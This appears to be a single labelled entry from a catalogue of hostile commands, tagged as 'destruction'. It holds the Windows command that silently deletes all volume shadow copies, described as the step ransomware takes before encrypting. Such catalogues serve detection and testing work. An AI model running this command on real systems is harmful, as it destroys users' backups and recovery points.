# description: Deletes all volume shadow copies, as ransomware does before encrypting.
# family: destruction
vssadmin delete shadows /all /quiet
